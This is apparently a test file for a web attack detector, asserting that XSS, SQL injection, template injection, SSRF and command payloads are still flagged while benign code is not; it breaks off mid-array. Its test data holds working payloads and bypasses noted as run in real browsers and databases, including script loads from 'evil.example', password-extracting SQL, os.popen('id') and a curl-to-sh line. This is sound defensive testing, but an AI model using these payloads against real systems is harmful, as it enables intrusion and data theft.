  // review, run in Chromium: quotes, blanks or tags an encoding made are text to the browser's tokenizer (an unquoted handler runs on past
  // them), and a quote closes only its own kind
  for (const v of ['<img src=x onerror=&quot;return&#32;false&quot;/(0,eval)(top.name)>', '<img src=x onerror=&quot;return&#32;false&quot;/Function(top.name)()>', "<img src=x onerror=&#39;return&#32;true&#39;/(0,eval)(top.name)>",
    '<img src=x onerror=&quot;event.preventDefault()&quot;/(document.title=1)>', '<img src=x onerror=&quot;return&#32;false&quot;&#32;&&(0,eval)(top.name)>', '<img src=x onerror=\v"return\u00a0false"/(0,eval)(top.name)>', '<img src=x onerror=\\u0022event.preventDefault()\\u0022/(0,eval)(top.name)>',
    '<img src=x onerror=＂return false＂/(0,eval)(top.name)>', '<a href=# onclick=&quot;foo()&quot;/(0,eval)(top.name)>x</a>',
    '<script charset="utf-8\' src="//platform.twitter.com/widgets.js" charset="utf-8\'></script>" src="//127.0.0.1:8765/evil.js"><script async src="//platform.twitter.com/widgets.js"></script>',
    '<script crossorigin="anonymous\' src="//platform.twitter.com/widgets.js" crossorigin="anonymous\'></script>" src="//127.0.0.1:8765/evil.js">',
    '<script charset="utf-8&quot; src="//platform.twitter.com/widgets.js" charset="utf-8&quot;></script>" src="//evil.example/x.js"><script async src="//platform.twitter.com/widgets.js"></script>',
    '<script async src＝"//platform.twitter.com/widgets.js"＞＜／script＞ src="//127.0.0.1:8765/evil.js">']) {
    t.ok(q(v).includes('xss'), `still read: ${v}`)
    t.ok(json({ id: 7, comment: v }).includes('xss'), `still read in JSON: ${v}`)
    t.ok(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from(`id=7&comment=${encodeURIComponent(v)}`) }).includes('xss'), `still read in a form: ${v}`)
  }
  // a private network's top-level name alone is an enumeration's word; as a host it is still a target
  for (const v of ['local', 'internal', 'LOCAL']) t.same(json({ id: 7, source: v }), [], v)
  // review: libcurl fetches a bare name as http://name/, and a company's search domain may resolve these
  for (const v of ['local:8080', 'http://internal/', 'x.local', 'internal/admin', 'localhost', 'printer.lan', 'intranet', 'corp', 'lan', 'home.arpa', 'localdomain']) t.ok(json({ id: 7, source: v }).includes('ssrf'), `still read: ${v}`)
  // a parenthesis in a sentence after `or` is no call: its words stand side by side
  t.same(json({ ...filler, title: 'gikun (meaning as reading) or jukujikun (special kanji reading)' }), [], "a dictionary's gloss")
  for (const v of ['1) or sleep(5)', "') or f(a b)--", '1) or f(a b) or 1=1', "') or f(a b);", '1) or extract(year from now())=2024', '1) or cast(x as int)=1--']) t.ok(q(v).includes('sqli'), `still read: ${v}`)
  // review: run on MariaDB and PostgreSQL — a call with anything but plain words inside, or with `binary`, a cast's or an interval's words
  for (const v of ["x' or instr(binary concat((select pass from users where id=1)),'s3') or 'x", "x' or instr(binary pass, 's3') or 'x", "x' || instr(binary pass, 's3') || 'x", "x' and instr(binary pass,'s3') and '1",
    '0 or abs(binary ascii(substr(pass,1,1))>100)', "0 or locate('s3', binary pass)", '1 or abs(binary sleep(2))', '0 or date_add(now(), interval id day)', "x' or starts_with((select pass from users where id=1)::character varying,'s') and 't",
    "x' or textregexeq(pass::character varying, '^s') or 'f", "0) or textregexeq(pass::character varying, '^s') or (false", `x' or xmlexists('//pass[starts-with(.,"s")]' passing by value query_to_xml('select pass from users',true,false,'')) and 't`,
    "0 or xmlexists('/table' passing by value query_to_xml(convert_from(decode('c2VsZWN0IHBnX3NsZWVwKDIp','base64'),'utf8'),true,true,''))", "x' or f(binary pass) or 'x", "x' or f(pass collate utf8_bin) or 'x"]) {
    t.ok(q(v, 'id').includes('sqli'), `still read: ${v}`)
    t.ok(json({ id: 7, name: v }).includes('sqli'), `still read in JSON: ${v}`)
  }
})

t.test("thirty-sixth round, second review: markup a decoding made is no markup to the browser, wherever the value came in", async (t) => {
  const E = encodeURIComponent
  const places: Record<string, (v: string) => AttackInputs> = {
    json: (v) => ({ ...base, headers: { ...base.headers, 'content-type': 'application/json' }, body: Buffer.from(JSON.stringify({ id: 7, comment: v })) }),
    query: (v) => ({ ...base, query: `page=1&comment=${E(v)}` }),
    form: (v) => ({ ...base, headers: { ...base.headers, 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from(`id=7&comment=${E(v)}`) }),
    multipart: (v) => ({ ...base, headers: { ...base.headers, 'content-type': 'multipart/form-data; boundary=XyZ' }, body: Buffer.from(`--XyZ\r\nContent-Disposition: form-data; name="comment"\r\n\r\n${v}\r\n--XyZ--\r\n`) }),
    header: (v) => ({ ...base, headers: { ...base.headers, 'x-note': v } }),
    'user-agent': (v) => ({ ...base, headers: { ...base.headers, 'user-agent': v } }),
    referer: (v) => ({ ...base, headers: { ...base.headers, referer: v } }),
    cookie: (v) => ({ ...base, headers: { ...base.headers, cookie: `sid=1; note=${v.replace(/[ ;,]/g, (c) => E(c))}` } }),
  }
  // a percent escape the application does not decode (a page reflecting a JSON field, a header or a cookie as sent; a query's value
  // decoded once) leaves a quote inside the handler: `false % 22 / (0,eval)(top.name)` ran in Chromium; and a `+` a cookie keeps
  for (const v of ['<img src=x onerror="return false%22/(0,eval)(top.name)//">', "<img src=x onerror='return false%27/(0,eval)(top.name)//'>", '<img src=x onerror="event.preventDefault()%22/(0,eval)(top.name)//">',
    '<script id="a%22 src=%22//platform.twitter.com/widgets.js%22%3E%3C/script%3E" src=//127.0.0.1:8765/evil.js>', '<script class="x%22 type=%22application/json%22 id=%22">(0,eval)(top.name)</script>', '<img src=x onerror=+"return+false"/(0,eval)(top.name)>']) {
    for (const [where, put] of Object.entries(places)) t.ok(detector.detect(put(v)).includes('xss'), `still read in ${where}: ${v}`)
  }
  // a value judged inside the value (a JSON document in a query's value) does not decide for the value around it
  for (const v of ['<img src=x onerror=&quot;return&#32;false&quot;/(0,eval)(top.name)>', '<img src=x onerror=\v"return\u00a0false"/(0,eval)(top.name)>']) {
    for (const where of ['query', 'form', 'header', 'cookie']) t.ok(detector.detect(places[where]!(`j={"a":"bbbbbbbbbbbbbbbbbbbbbbbbb"}&x=${v}`)).includes('xss'), `still read in ${where} after a nested document: ${v}`)
  }
  // and what one value's decoding found is not left over for the next value, nor the next request
  const form = '<form action="/save" onsubmit="return false"><button>Save</button></form>'
  t.same(detector.detect({ ...base, query: 'a=%26amp%3B', headers: { ...base.headers, 'x-note': form } }), [], 'a header after a query decoded')
  t.same(detector.detect({ ...base, headers: { ...base.headers, 'x-note': form } }), [], 'the same header in the next request')
  t.same(detector.detect({ ...base, headers: { ...base.headers, referer: `http://shop.example.com/?${form}` } }), [], 'a page URL')
})

t.test("thirty-sixth round: the thirtieth part's false positives — a template's comments, a PHP file's guard, a layout's last lines", async (t) => {
  const filler = Object.fromEntries(Array.from({ length: 11 }, (_, i) => [`k${i}`, `v${i}`]))
  // an ERB, EJS or EEx comment on one line; a HEEx comment of plain words
  for (const v of ['<%# locals: (user:, present: false, edit_title:, edit_path:) %>\n<div class="profile">\n  <%= render "avatar", user: user %>\n</div>', '<%!-- Owners Card --%>\n<div class="flex-1 min-w-0">\n  <h2>Owners</h2>\n</div>']) {
    t.same(q(v, 'code'), [], v)
    t.same(json({ ...filler, code: v }), [], `in a document: ${v}`)
  }
  // Mako runs a module block (`<%! %>`) and a line after a comment's line break; any other scriptlet is read as before
  for (const v of ['<%# x\nimport os;os.system("id") %>', "<%!--1;import os;os.system('id')#--%>", '<%! import os %>\n<div class="x">', '<%# x %><%= 7*7 %>', '<%!-- a --%>\n<div>\n<%= system("id") %>', '<% # x %>', '<%= 7*7 %>']) t.ok(q(v).includes('ssti'), `still read: ${JSON.stringify(v)}`)
  // a PHP file's guard against being run on its own
  for (const v of ["defined('MOODLE_INTERNAL') || die('Direct access to this script is forbidden.');", "defined('MOODLE_INTERNAL') || die();", '<?php\ndefined("ABSPATH") or exit;\n$x = 1;']) t.same(json({ ...filler, code: v }), [], v)
  for (const v of ["x') || die('y');", "defined('x') || die('a') or '1'='1';", "defined('x') || die('a\\') or 1=1-- ');", "defined('x') || die('') union select password from users--');"]) t.ok(q(v).includes('sqli'), `still read: ${v}`)
  // a page's script closing, then only the layout's closing tags
  const layout = '        document.addEventListener("click", function(event) {\n          var link = event.target.closest && event.target.closest(\'a[href]\');\n          if (!link) return;\n          var href = link.getAttribute("href");\n          if (!href || href.charAt(0) !== "#") return;\n          event.preventDefault();\n          postAnchor(href.slice(1));\n        });\n\n        sendHeight();\n        new ResizeObserver(sendHeight).observe(document.body);\n      });\n    </script>\n  </body>\n</html>\n'
  t.same(json({ ...filler, code: layout }), [], "a layout's last lines")
  for (const v of ['x\n</script>\n</body>\n<script>alert(1)</script>', 'x\n</script>\n</body><img src=x onerror=alert(1)>']) t.ok(json({ ...filler, code: v }).includes('xss'), `still read: ${JSON.stringify(v)}`)
})

t.test('thirty-sixth round, third review: run in Mako, EJS, MariaDB, SQLite, PostgreSQL and Chromium', async (t) => {
  const filler = Object.fromEntries(Array.from({ length: 11 }, (_, i) => [`k${i}`, `v${i}`]))
  // Mako: a comment ends at the line's end, its block at the next `%>`; a control line runs Python
  for (const v of ["<%# x %>\nimport subprocess as s\ncontext.write(s.getoutput('id'))\n%>", '<%# x %>\nfrom os import popen as p\ncontext.write(p("id").read())\n%>', "<%# x %>\n% if context.write(str(7*7)):\n% endif", '<%# a \rcontext.write(str(7*7)) %>']) t.ok(q(v).includes('ssti'), `still read: ${JSON.stringify(v)}`)
  // EJS runs a HEEx-looking comment holding operators as JavaScript (`new process.exit` ended the server)
  for (const v of ['<%!-- include, new process.exit //--%>', '<%!-- include, new process.exit, include---%>', '<%!-- include & new process.exit & include---%>', '<%!-- Include, new Process.Exit //--%>']) t.ok(q(v).includes('ssti'), `still read: ${v}`)
  // the guard's quotes pair with a query's: its name and message are SQL then
  for (const v of ["defined('or') || die(' is null union select user,password from users -- ');", "defined('or') || die(' is null or 1=1 -- ');", "defined('or') || die('; drop table users -- ');", "defined('or') or die(' union select user,password from users#');", "defined('or') || die(' is not null or name like ');"]) t.ok(q(v).includes('sqli'), `still read: ${v}`)
  for (const v of ["defined('or') || die(' is null union select user,password from users -- ');", "defined('or') || die(' is null or 1=1 -- ');"]) t.ok(json({ ...filler, code: `<?php\n${v}\n$x = 1;` }).includes('sqli'), `still read in a program: ${v}`)
  // a script opened inside a template literal (the program's strings hide it) runs before a layout's closing tags
  for (const end of ['</div>', '</body>\n</html>', '</template></section></main></div>']) {
    const v = `import { ref } from "vue"\nconst count = ref(0)\nconst note = \`\n<script>\ndocument.title="PWNED "+document.domain//\`\n</script>\n${end}`
    t.ok(q(v).includes('xss'), `still read: ${JSON.stringify(v)}`)
    t.ok(json({ id: 7, comment: v }).includes('xss'), `still read in JSON: ${JSON.stringify(v)}`)
  }
  // an escape the application's own decoding leaves (`%u0022`, a value qs gives up on for its stray `%`) is no quote to the browser
  t.ok(detector.detect({ ...base, query: 'q=%3Cimg%20id%3Du0022%20src%3Dx%20onerror%3D%22return%20false%u0022%2F(0%2Ceval)(top.name)%2F%2F%22%3E' }).includes('xss'), '%u0022 in a query')
  t.ok(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from('comment=<img src=x onerror="return false%22/(0,eval)(top.name)//">%zz') }).includes('xss'), 'a stray % in a form')
})

t.test("thirty-sixth round, end: the thirty-first part's false positives — a Markdown table aligned with one dash", async (t) => {
  // GFM's delimiter cell needs one dash (`| -: |`); a table's `| Id |` is a cell, no pipe into `id`
  const doc = '## Transfers\n\nThis example debits one account.\n\n| Id | Debit Account | Credit Account | Amount | Flags |\n| -: | ------------: | -------------: | -----: | ----: |\n|  1 |   Destination |         Source |    123 | [`linked`](../../reference/transfer.md#flagslinked) |\n'
  t.same(json({ body: doc }), [], 'a table aligned right with one dash')
  t.same(q(doc, 'body'), [], 'in a query')
  // a list item is no delimiter row, and a row still holds no command line outside a table
  for (const v of ['## Notes\n\n- | id\n', '## Notes\n\n| -: |\nx; curl -s http://evil.example/x.sh | sh\n']) t.ok(json({ body: v }).includes('rce'), `still read: ${JSON.stringify(v)}`)
})

t.test('thirty-sixth round, fourth review: a provider address decoded from escapes, a script opened in a comment line, a JavaScript escape building a percent escape, Unicode blanks in a data block', async (t) => {
  const E = encodeURIComponent
  const form = (v: string) => detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from(`comment=${v}`) })
  // Chromium reads `\` as a path separator: the host is `speakerdeck.co`, another party's
  for (const v of ['<script async src="https://speakerdeck.co\\u006d/assets/embed.js"></script>', '<script src="//e.issuu.co\\u006d/embed.js"></script>', '<script src="//e\\x2eissuu.com/embed.js"></script>', '<script src="//www.tiktok.co\\u{6d}/embed.js"></script>']) {
    t.ok(q(v).includes('xss'), `still read: ${v}`)
    t.ok(json({ id: 7, comment: v }).includes('xss'), `still read in JSON: ${v}`)
  }
  // a script opened on a program's comment line runs before a layout's closing tags
  const program = "import { ref } from 'vue'\nconst count = ref(0)\nfunction inc() { count.value++ }\n// <script>document.title='PWNED'\n</script>\n</body>\n</html>\n"
  t.ok(json({ id: 7, comment: program }).includes('xss'), 'a comment line opening the script')
  // the application's one decoding of a form is its first round, whatever it changed: a `%22` a JavaScript escape builds is no quote to it
  t.ok(form('<script class=\\x2522 type x\\x2522 type="application/json">eval(name)</script>').includes('xss'), 'a percent escape built from a JavaScript escape')
  // a data block's attributes apart only by HTML's blanks: U+2028, U+FEFF, U+00A0, U+3000 make an attribute's name, and the script has no type
  for (const b of ['\u2028', '\ufeff', '\u00a0', '\u3000']) {
    const v = `<script id="a"${b}type="application/json">eval(name)</script>`
    t.ok(json({ id: 7, comment: v }).includes('xss'), `still read: ${E(b)}`)
  }
})

t.test('thirty-sixth round, fourth review: a Mako block opened by a one-line comment, however long', async (t) => {
  // Mako's comment runs to the line's end, its block to the next `%>`: what lies between is Python
  const pad = '#' + 'x'.repeat(420)
  for (const v of [`<%# x %>\nimport os as o;o.popen('touch /tmp/pwned').read()\n${pad}\n%>`, `<h1>Hi</h1>\n<%# note %>\nfrom subprocess import getoutput as g\ncontext.write(g('id'))\n${pad}\n%>\n<p>bye</p>`]) {
    t.ok(json({ id: 7, comment: v }).includes('ssti'), `still read: ${JSON.stringify(v.slice(0, 60))}`)
  }
  // an ERB page's comment followed by its own tags, or by prose, is a comment
  for (const v of [`<%# locals: (user:) %>\n<div class="profile">\n  <%= render "avatar", user: user %>\n</div>\n${'<p>open source</p>\n'.repeat(20)}`, '<%# a comment %>\n<p>load the page, open the door</p>\n']) t.same(json({ id: 7, comment: v }), [], JSON.stringify(v.slice(0, 60)))
})

t.test("thirty-seventh round: the thirty-first and thirty-second parts' false positives — an initialism glossed, a shop's placeholder, a mail template's own name", async (t) => {
  // an initialism joined by `&` in a phrase's parenthesis is no bitwise test of columns
  for (const v of ['Architecture and Engineering (A&E),Contracts,For-Profit Organization', 'Profit and Loss (P&L), quarterly', 'Research and Development (R&D), Sales', 'Mergers and Acquisitions (M&A).']) {
    t.same(json({ id: 7, business_types: v }), [], `a gloss: ${v}`)
    t.same(q(v), [], `in a query: ${v}`)
  }
  // a number, a call or a comment keeps it SQL
  for (const v of ['1 and f(pass&1),x', "' and f(a&e)--", '1 and ascii(a&e),x', "x' and f(a&e);"]) t.ok(q(v).includes('sqli'), `still read: ${v}`)
  // (review: blind reads and login bypasses that ran on SQLite, MariaDB and PostgreSQL through the first version, any two short words)
  for (const v of ['1 and abs(pin&pin)&4', '1 and abs(pin&pin)-4821', "1 and abs(a&a)*(pw like 's%')", "2 and abs(a&a)*(select 1 from users where name='admin' and pw like 's3c%')", "1 and abs(oid&oid)*(pw like 's%')", "1 and abs(id & id)*(pw like 's%')", '1 and abs(id & id)*(pw like 0x7325)', "' or abs(id & id)+1;-- ", "x' or abs(pw&pw)+1 limit 1;-- ", "x') or abs(id & id)+1-- -", '1 and bit_count(pin&pin)-6', '1 AND ABS(PIN&PIN)-1234', '1 and abs(pw/**/&/**/pw)', "x and abs(x&a)*(pw like 's%')", 'x and abs(x&a),(select pw from users)', 'x and abs(x&a),1)-- -', 'x and abs(x&a),b;drop table users', 'x and abs(x&a),b or 1=1']) {
    t.ok(q(v).includes('sqli'), `still read: ${v}`)
    t.ok(json({ id: 7, name: v }).includes('sqli'), `still read in JSON: ${v}`)
  }
  // `{{app}}` in a document of messages is a placeholder; alone in a short value it is still a probe
  const messages = { language: 'Slovenian', i18n: 'sl', translation: { admin: { disableConfirm: 'Ali ste prepričani, da želite onemogočiti {{app}}?', pkgEnabled: '{{app}} je sedaj omogočeno.', pkgDisabled: '{{app}} je zdaj onemogočeno.', other: 'Izberi jezik', more: 'Izberite valuto', again: 'Shrani', last: 'Prekliči', one: 'Dodaj', two: 'Uredi', three: 'Izbriši', four: 'Nazaj', five: 'Naprej' } } }
  t.same(json([messages]), [], "a shop's translations")
  for (const v of ['{{app}}', '{{ app }}', '{{app.request.server.all|join(",")}}']) t.ok(q(v).includes('ssti'), `still read: ${v}`)
  // (review: Twig's application object reached for its session, token or request, and Jinja's context by its private name inside a
  // dictionary's braces, in a long value too)
  const prose = 'a note for the team about the next release, written in plain words over several lines so that it is long enough to be judged as a document would be judged, '
  for (const v of ['{{app.session.all|json_encode}}', '{{app["request"]}}', '{{attribute(app,"request")}}', '{{ app.token }}', "{{ {'k':{'j':self}}.k.j._TemplateReference__context }}"]) {
    t.ok(json({ id: 7, body: prose + v }).includes('ssti'), `still read: ${v}`)
  }
  // Jinja's `self` read for a field ending the tag names the template's block or the model (a Django mail template); anything more is read
  const letter = (tag: string) => `<p>Dear <b>{{instance.get_full_name}}</b>,</p><p>We are pleased to extend to you an offer of employment for the position of <b>{{instance.get_job_position}}</b>. We were very impressed by your qualifications.</p><p>Warm regards,</p><p>${tag}</p><p>{{self.get_company }}</p>`
  t.same(json({ model: 'base.mailtemplate', fields: { title: 'Offer letter', body: letter('{{self.get_full_name}}') } }), [], 'a mail template')
  t.same(json({ body: `Hi {{self.get_full_name}}, ${'thanks for applying. '.repeat(12)}` }), [], 'in prose')
  for (const tag of ['{{self}}', '{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen("id").read()}}', '{{self.a|attr("b")}}', '{{ self.x[request.args.a] }}', '{{ self.__dict__ }}']) {
    t.ok(json({ body: letter(tag) }).includes('ssti'), `still read: ${tag}`)
  }
})

t.test("thirty-seventh round: the thirty-first and thirty-second parts' false positives — a program's call statement, SCCS's what-string, a page's own script by its path, XML's references resolved by its reader", async (t) => {
  const xml = (v: string) => detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/xml' }, body: Buffer.from(`<?xml version="1.0"?><note><code>${v.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;')}</code></note>`) })
  // Fortran's and Visual Basic's `call` as a value's first word
  for (const v of ['    call get_value(table, "library", self%library, .false.)\n    call get_value(table, "test", self%test, .false.)', '        call set_string(table, "name", self%name, error, class_name)']) {
    t.same(json({ id: 7, snippet: v }), [], `a program's statement: ${JSON.stringify(v.slice(0, 40))}`)
  }
  // (review: a routine given SQL's value words, which a name-only reading took for a program's variables, emptied a table on MariaDB and
  // PostgreSQL; after a separator, a routine called is a stacked statement whatever its arguments)
  for (const v of ["1;call regexp_substring(repeat(left(crypt_key(char(65)||char(66),cast(null as varchar)),1),500000000),null)", '1; call a_b(x, y)--', "';call sys_exec('id')--", "';call purge_users(localtime);select '", "';call purge_users(localtime)'", '1;call purge_users(current_time);', '1; call purge_users(utc_timestamp);', '1;call purge_users(current_schema);', '1;call grant_admin(current_role);', '1;call purge_users(localtime);-- ', "1;call x_y(a) or 1='1", 'case("openmp");  call init_openmp (this,compiler,all_meta,error)']) t.ok(q(v).includes('sqli'), `still read: ${v}`)
  // SCCS's what-string is a source file's identification, no Razor block
  t.same(json({ id: 7, snippet: "! @(#)fpm_strings::glob(3f): function compares text strings, one of which can have wildcards ('*' or '?')." }), [], 'a what-string')
  t.same(q('static char sccsid[] = "@(#)ls.c 8.1";'), [], 'in C')
  for (const v of ['@(7*7)', ' @(system("id"))', ' @{var x=1;}', '@(#) @(7*7)', '@* @(#) *@@(DateTime.Now)', '@* x *@@(DateTime.Now)']) t.ok(q(v).includes('ssti'), `still read: ${v}`)
  // a template page's script by the expression and a path of the site's, with its integrity hash
  const page = '{% block extra_scripts %}\n    <script src="{{ static }}/qrcode.min.js" integrity="sha384-XfbBihCQqSDyejklP5yun2CbVxqR+2eNfx0Fhx5pQAfN5ypWGhSBjXaXr5g6X4DE"></script>\n{% endblock %}\n'
  t.same(json({ id: 7, file: page }), [], "a page's own script")
  // (review: an expression of the value's own that renders `/` made the path protocol-relative: `{{ '/' }}/evil.example/x.js` loaded and ran
  // a script from another host in Jinja and Chromium)
  for (const src of ["{{ '/' }}/evil.example/x.js", "{{ '/' | safe }}/evil.example/x.js", '{{ "/" }}/evil.example/x.js', '{{ static }}//evil.example/x.js', '{{ static }}/../api/jsonp?cb=alert(1)', '{{ static }}/.%2e/x.js', '{{ static }}/a.js" onload="alert(1)', '{{ static }}\\\\evil.example\\x.js']) {
    t.ok(json({ id: 7, file: page.replace('{{ static }}/qrcode.min.js', src) }).includes('xss'), `still read: ${src}`)
  }
  t.ok(json({ id: 7, file: page.replace('sha384-', 'sha384-" src="//evil.example/x.js" x="') }).includes('xss'), 'an integrity value hiding a source')
  // (third review: a name the value binds itself is no variable of the page's — `{% set s %}//evil.example{% endset %}` rendered another
  // host's script in Jinja and Chromium)
  for (const bind of ["{% set s = '/' %}", '{% set s %}/{% endset %}', "{% for s in ['/'] %}", "{% with s='/' %}", '{% set s %}//evil.example{% endset %}', "{%- set s = '/' -%}", "{% url 'x' as s %}", "{% import 'x.html' as s %}"]) {
    t.ok(json({ id: 7, file: `${bind}\n<script src="{{ s }}/evil.example/x.js"></script>\n{% endblock %}\n` }).includes('xss'), `still read: ${bind}`)
    t.ok(json({ id: 7, file: `${bind}\n<script src="{{ s }}"></script>\n{% endblock %}\n` }).includes('xss'), `still read without a path: ${bind}`)
  }
  // XML's reader resolves its own references once: the page as it reaches the application, judged as such
  t.same(xml(page), [], 'the page in an XML body')
  t.same(xml('<p>Send</p>\n<form onsubmit="return false">\n  <input name="q">\n</form>'), [], 'a no-op handler in an XML body')
  // a reference escaped twice is decoded by nobody but the detector: what it makes is no markup
  const twice = `<?xml version="1.0"?><note><code>&amp;lt;img src=x onerror=&amp;quot;return&amp;#32;false&amp;quot;/(0,eval)(top.name)&amp;gt;</code></note>`
  t.ok(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/xml' }, body: Buffer.from(twice) }).includes('xss'), 'escaped twice')
  for (const v of ['<script>alert(1)</script>', '<img src=x onerror="return false;(0,eval)(top.name)">', '<svg onload=alert(1)>']) t.ok(xml(v).includes('xss'), `still read in XML: ${v}`)
})

t.test("thirty-seventh round: the thirty-second part's false positives — a MessageFormat 2 pattern opening on the word `literal`", async (t) => {
  const doc = { scenario: 'Selection', defaultTestProperties: { locale: 'en-US' }, tests: [{ src: '.local $sel = {1 :integer select=exact} .match $sel 1 {{literal select {$sel}}} * {{OTHER}}', exp: 'literal select 1' }, { src: '.local $star = {star :string} .match $star |*| {{Literal star}} * {{The default}}', exp: 'Literal star' }] }
  t.same(json(doc), [], 'a test of MessageFormat 2')
  // Smarty's own tags are still read
  for (const v of ['{literal}<script>alert(1)</script>{/literal}', '{php}system("id");{/php}', '{literal}x{/literal}', '{literal }', '{LITERAL\n}', '{literal }<script>alert(1)</script>{/literal}']) t.ok(q(v).includes('ssti'), `still read: ${v}`)
})

t.test("thirty-seventh round, third review: a <noscript> first shields no <script> — the exemption withdrawn", async (t) => {
  // the value lands in an unquoted attribute (`<noscript>`'s `>` ends the tag), an HTML comment (`-->` ends it), an <svg> the page opened
  // (noscript is an SVG element there and a self-closing SVG script runs) or a JavaScript string a page writes (`<\/` is `</`): all ran in
  // Chromium through the first version, and so NoScript's own message naming <SCRIPT> stays flagged, as any bare <script> a value opens
  for (const v of ['Show the <NOSCRIPT> element which follows a blocked <SCRIPT>', '<noscript><script src=//evil.example/x.js>', 'comment <noscript><script src=//evil.example/x.js>', '<noscript><script>top[name]()//', '<noscript>--><script src=//evil.example/x.js>', '<noscript>--!><script src=//evil.example/x.js>', '<noscript><script href=//evil.example/x.js />', '<noscript><script xlink:href=//evil.example/x.js />', '<noscript><script/href=/uploads/x.js />', '<noscript><\\/noscript><script src=//evil.example/x.js><\\/script>', '<noscript><script>alert(1)</script>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<noscript>"><script>alert(1)//', '<svg><noscript><script>alert(1)</script>']) {
    t.ok(q(v).includes('xss'), `still read: ${v}`)
    t.ok(json({ id: 7, comment: v }).includes('xss'), `still read in JSON: ${v}`)
  }
})

t.test("thirty-seventh round, end: the thirty-third part's false positives — an SVG icon's document type, a legend's namespace field, PowerShell's array", async (t) => {
  const svg = (text: string) => `data:image/svg+xml;base64,${Buffer.from(text).toString('base64')}`
  const doctype = '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
  const icon = svg(`${doctype}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" version="1.1" id="mdi-magnet" width="24" height="24" viewBox="0 0 24 24"><path d="M3,7V13A9,9 0 0,0 12,22A9,9 0 0,0 21,13V7H17V13A5,5 0 0,1 12,18A5,5 0 0,1 7,13V7M17,5H21V2H17M3,5H7V2H3" /></svg>`)
  t.same(json({ name: 'Magnet', fullName: 'Magnet', iconUrl: icon, category: 'Movement' }), [], "an extension's icon")
  // an internal subset declares entities; an active image is active whatever its document type
  for (const text of [`${doctype}<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><path d="M3,7"/></svg>`, '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x" [<!ENTITY a "&#60;script&#62;alert(1)&#60;/script&#62;">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>', `${doctype}<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`, '<!DOCTYPE svg PUBLIC "a>" "b"><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', `${doctype}${doctype}<svg xmlns="http://www.w3.org/2000/svg"><path d="M3,7"/></svg>`]) {
    t.ok(json({ iconUrl: svg(text) }).includes('xss'), `still read: ${text.slice(100, 180)}`)
  }
  // (older than the round: an active image opening on a document type, a blank or a comment went unread — the signature read the
  // encoded `<svg`, `<script` and `<?` only)
  for (const text of ['<!DOCTYPE svg PUBLIC "a" "b"><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', ' <svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', '\n<svg onload=alert(1)>', '<!-- x --><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', '<!DOCTYPE html><svg><script>alert(1)</script></svg>']) {
    t.ok(json({ iconUrl: svg(text) }).includes('xss'), `read now: ${JSON.stringify(text.slice(0, 40))}`)
    t.ok(q(`<iframe src="${svg(text)}"></iframe>`).includes('xss'), `in a frame: ${JSON.stringify(text.slice(0, 40))}`)
  }
  // a dashboard's legend names a Kubernetes label; Jinja's `namespace` is still read
  t.same(json({ legend: '{{k8s.namespace.name}}-{{k8s.pod.name}}-{{interface}}-{{direction}}', query: 'sum(rate(k8s_pod_network_io[5m]))' }), [], "a dashboard's legend")
  for (const v of ['{{ namespace(a=1) }}', 'x {{ (namespace)[1] }} y', "{% set ns = namespace(found=false) %}{{ ns.__init__.__globals__.os.popen('id').read() }}"]) t.ok(q(v).includes('ssti'), `still read: ${v}`)
  // PowerShell's array assigned is no Razor block; one in markup is
  t.same(json({ snippet: '$ConsoleColorToAnsi = @(\n    30 # Black\n    34 # DarkBlue\n    32 # DarkGreen\n)' }), [], "PowerShell's array")
  for (const v of ['@(7*7)', '<p title=@(7*7)>', 'x=@(1337)', ' @(1337)']) t.ok(q(v).includes('ssti'), `still read: ${v}`)
  // (fourth review) Razor reads `@(…)` after `=` or a blank in text; only a variable's array on lines of its own is PowerShell's
  const prose = 'Please set the field in the profile form like this and then save the record as usual for the other entries, thanks: '
  for (const v of ['x = @(System.IO.File.ReadAllText("web.config"))', '$a = @(System.Environment.UserName)', 'x=@(System.Environment.UserName)', 'x=@(49)', '<a title=@(System.Environment.GetEnvironmentVariable("ConnectionStrings__Default"))>']) {
    t.ok(json({ id: 7, note: prose + v }).includes('ssti'), `still read in prose: ${v}`)
  }
  // (fourth review) a field named namespace subscripted, called or filtered: `x` may hold Jinja's globals
  for (const v of ["{{ x.namespace['__in'~'it__']['__glo'~'bals__']['o'~'s']['po'~'pen']('id')['re'~'ad']() }}", '{{ x.namespace(a=1) }}', '{{ x.namespace|attr("y") }}']) {
    t.ok(json({ id: 7, note: prose + v }).includes('ssti'), `still read: ${v}`)
  }
  // (fourth review) an image whose bytes are not what they read as in Latin-1 (Chromium decodes the declared encoding: ISO-2022-JP's
  // `ESC ( B` is nothing, `o\x1b(Bnload=` ran), an XHTML document type (HTML's named entities on: `&commat;import url&lpar;…&rpar;`
  // fetched a style sheet), UTF-16, base64 with blanks: each ran in an iframe, an object or an embed
  const b64 = (text: string, enc: BufferEncoding = 'latin1') => `data:image/svg+xml;base64,${Buffer.from(text, enc).toString('base64')}`
  const head = '<?xml version="1.0" encoding="iso-2022-jp"?>'
  for (const v of [
